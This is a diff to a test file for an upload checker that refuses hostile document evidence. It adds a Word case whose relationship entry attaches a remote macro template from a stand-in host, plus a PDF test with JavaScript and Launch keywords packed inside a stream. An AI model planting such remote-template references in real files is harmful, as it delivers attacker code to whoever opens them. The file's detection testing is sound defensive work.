@@ -40,6 +40,9 @@ test.each(good)('%s is taken for what it is', async (name, is, make) => {
   expect(checked).toMatchObject({ ok: true, value: { name, type: fileTypes[is].type } })
 })
 
+const remoteTemplate =
+  '<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://xau.example/a.dotm" TargetMode="External"/>'
+
 const hostile: ReadonlyArray<readonly [string, string, () => Made]> = [
   ['rong.pdf', 'evidence-empty', () => new Uint8Array()],
   ['to.pdf', 'evidence-too-large', () => new Uint8Array(largestEvidence + 1)],
@@ -92,6 +95,11 @@ const hostile: ReadonlyArray<readonly [string, string, () => Made]> = [
       ),
   ],
   [
+    'mau.docx',
+    'evidence-with-program',
+    () => word([{ name: 'word/_rels/settings.xml.rels', bytes: bytes(remoteTemplate) }]),
+  ],
+  [
     'ma.odt',
     'evidence-with-program',
     () => openDocument('text', [{ name: 'Basic/Standard/Module1.xml', bytes: bytes('x') }]),
@@ -119,6 +127,19 @@ test.each(hostile)('%s is refused: %s', async (name, code, make) => {
     const words = progressRefusals[refusal!.code as keyof typeof progressRefusals][language]
     expect(fill(words, refusal!.values)).not.toMatch(/[{}]/)
   }
+})
+
+test('what is packed may look like a program by chance', async () => {
+  const packed = Buffer.concat([
+    Buffer.from('4 0 obj<</Length 40>>stream\n'),
+    Buffer.from('/JS(x) /JavaScript 5 /Launch PK\x05\x06', 'latin1'),
+    Buffer.from('\nendstream endobj\n'),
+    Buffer.alloc(70_000, 0x20),
+  ])
+  const paper = pdf()
+  const at = Buffer.from(paper).indexOf('xref')
+  const bytesOf = joined(paper.subarray(0, at), packed, paper.subarray(at))
+  expect(await checkFile({ name: 'a.pdf', bytes: bytesOf }, 'file')).toMatchObject({ ok: true })
 })
 
 test('a password is told as one', async () => {
